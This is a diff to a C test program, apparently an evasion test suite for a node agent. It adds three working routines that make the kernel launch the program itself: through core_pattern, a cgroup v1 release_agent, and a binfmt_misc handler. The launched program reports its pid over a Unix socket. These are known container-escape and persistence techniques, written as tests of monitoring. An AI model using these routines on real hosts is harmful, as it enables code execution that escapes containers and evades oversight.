@@ -6,12 +6,16 @@
 #include <netinet/in.h>
 #include <pthread.h>
 #include <sched.h>
+#include <stddef.h>
 #include <stdint.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/time.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 
 #define ROUNDS 200
@@ -244,6 +248,190 @@ static int act_moved_folder(char **a)
 	return 0;
 }
 
+/* What the kernel starts by itself tells us its pid through this socket. */
+#define TELL "nodeagent-evasion"
+
+static struct sockaddr_un tell_address(socklen_t *length)
+{
+	struct sockaddr_un address = { .sun_family = AF_UNIX };
+
+	/* An abstract name: whoever the kernel starts may have another root. */
+	memcpy(&address.sun_path[1], TELL, sizeof(TELL));
+	*length = offsetof(struct sockaddr_un, sun_path) + sizeof(TELL);
+	return address;
+}
+
+static int tell(void)
+{
+	socklen_t length;
+	struct sockaddr_un address = tell_address(&length);
+	int to = must("socket", socket(AF_UNIX, SOCK_DGRAM, 0));
+	pid_t pid = getpid();
+
+	must("sendto", sendto(to, &pid, sizeof(pid), 0, (struct sockaddr *)&address, length));
+	return 0;
+}
+
+static int listen_for_pid(void)
+{
+	struct timeval patience = { .tv_sec = 10 };
+	socklen_t length;
+	struct sockaddr_un address = tell_address(&length);
+	int from = must("socket", socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0));
+
+	must("bind", bind(from, (struct sockaddr *)&address, length));
+	must("timeout", setsockopt(from, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience)));
+	return from;
+}
+
+static void said_pid_from(int from)
+{
+	pid_t pid;
+
+	must("no process of the kernel's came", recv(from, &pid, sizeof(pid), 0));
+	said("pid", pid);
+}
+
+static void own_path(char *path)
+{
+	ssize_t length = must("readlink", readlink("/proc/self/exe", path, PATH_MAX - 1));
+
+	path[length] = 0;
+}
+
+static void write_text(const char *name, const char *text)
+{
+	int file = must(name, open(name, O_WRONLY));
+
+	must(name, write(file, text, strlen(text)));
+	close(file);
+}
+
+/* E14: the kernel runs a program when another one crashes. */
+static int act_core_pattern(char **a)
+{
+	static const char name[] = "/proc/sys/kernel/core_pattern";
+	char before[256] = "";
+	char pattern[PATH_MAX + 16] = "|";
+	int from = listen_for_pid();
+	int file = open(name, O_RDWR);
+	pid_t child;
+
+	(void)a;
+	if (file < 0)
+		return result(-1), 0;
+	must("read", read(file, before, sizeof(before) - 1));
+	close(file);
+	own_path(pattern + 1);
+	/* The kernel takes at most 127 bytes. */
+	if (strlen(pattern) > 120) {
+		must("symlink", symlink(pattern + 1, "/tmp/nodeagent-core"));
+		strcpy(pattern, "|/tmp/nodeagent-core");
+	}
+	strcat(pattern, " tell");
+	write_text(name, pattern);
+	child = must("fork", fork());
+	if (!child) {
+		struct rlimit limit = { RLIM_INFINITY, RLIM_INFINITY };
+
+		setrlimit(RLIMIT_CORE, &limit);
+		abort();
+	}
+	waitpid(child, NULL, 0);
+	write_text(name, before);
+	said_pid_from(from);
+	unlink("/tmp/nodeagent-core");
+	return 0;
+}
+
+static int is_in_hierarchy(const char *name)
+{
+	char line[PATH_MAX];
+	int found = 0;
+	FILE *file = fopen("/proc/self/cgroup", "r");
+
+	while (file && fgets(line, sizeof(line), file))
+		found |= !!strstr(line, name);
+	if (file)
+		fclose(file);
+	return found;
+}
+
+/* E14: the kernel runs a program when the last one leaves a cgroup of version 1. */
+static int act_release_agent(char **a)
+{
+	char path[PATH_MAX];
+	int from = listen_for_pid();
+	pid_t child;
+
+	(void)a;
+	must("unshare", unshare(CLONE_NEWNS));
+	must("private", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
+	must("mkdir", mkdir("group", 0755));
+	if (mount("none", "group", "cgroup", 0, "none,name=nodeagent-evasion")) {
+		/* This kernel has no version 1. */
+		errno = ENOSYS;
+		return result(-1), 0;
+	}
+	own_path(path);
+	write_text("group/release_agent", path);
+	must("mkdir", mkdir("group/tell", 0755));
+	write_text("group/tell/notify_on_release", "1");
+	child = must("fork", fork());
+	if (!child) {
+		write_text("group/tell/cgroup.procs", "0");
+		_exit(0);
+	}
+	waitpid(child, NULL, 0);
+	said_pid_from(from);
+	rmdir("group/tell");
+	umount("group");
+	/* A hierarchy whose last group is not quite gone when it is unmounted would stay. */
+	for (int turn = 0; turn < 100 && is_in_hierarchy("name=nodeagent-evasion"); turn++) {
+		usleep(20000);
+		if (!mount("none", "group", "cgroup", 0, "none,name=nodeagent-evasion"))
+			umount("group");
+	}
+	rmdir("group");
+	return 0;
+}
+
+/* E14: the kernel takes another program for files of a kind. */
+static int act_binfmt_misc(char **a)
+{
+	char rule[PATH_MAX + 64] = ":nodeagent-evasion:E::nodeagent-evasion::";
+	char path[PATH_MAX];
+	char *arguments[] = { "harmless", NULL };
+	pid_t child;
+	int code;
+
+	(void)a;
+	must("unshare", unshare(CLONE_NEWNS));
+	must("private", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
+	must("mkdir", mkdir("binfmt", 0755));
+	if (mount("none", "binfmt", "binfmt_misc", 0, NULL)) {
+		/* A module that is not there. */
+		errno = ENOSYS;
+		return result(-1), 0;
+	}
+	own_path(path);
+	strcat(rule, path);
+	strcat(rule, ":");
+	write_text("binfmt/register", rule);
+	make("data.nodeagent-evasion");
+	must("chmod", chmod("data.nodeagent-evasion", 0755));
+	child = must("fork", fork());
+	if (!child) {
+		execv("data.nodeagent-evasion", arguments);
+		_exit(9);
+	}
+	waitpid(child, &code, 0);
+	said("pid", child);
+	write_text("binfmt/nodeagent-evasion", "-1");
+	umount("binfmt");
+	return 0;
+}
+
 static int act_nothing(char **a)
 {
 	(void)a;
@@ -263,6 +451,9 @@ static const struct act acts[] = {
 	{ "call_of_32_bits", act_call_of_32_bits },
 	{ "other_root", act_other_root },
 	{ "moved_folder", act_moved_folder },
+	{ "core_pattern", act_core_pattern },
+	{ "release_agent", act_release_agent },
+	{ "binfmt_misc", act_binfmt_misc },
 	{ "nothing", act_nothing },
 	{ NULL, NULL },
 };
@@ -274,6 +465,9 @@ int main(int argc, char **argv)
 	/* Run under another name, it does nothing. */
 	if (argc > 1 && !strcmp(argv[1], "-s"))
 		return 0;
+	/* The agent of a cgroup is told which one it is. */
+	if (argc > 1 && (!strcmp(argv[1], "tell") || !strcmp(argv[1], "/tell")))
+		return tell();
 	if (argc > 1 && readlink("/proc/self/exe", program, sizeof(program) - 1) > 0)
 		said_text("program", program);
 	return act_main(argc, argv, acts);
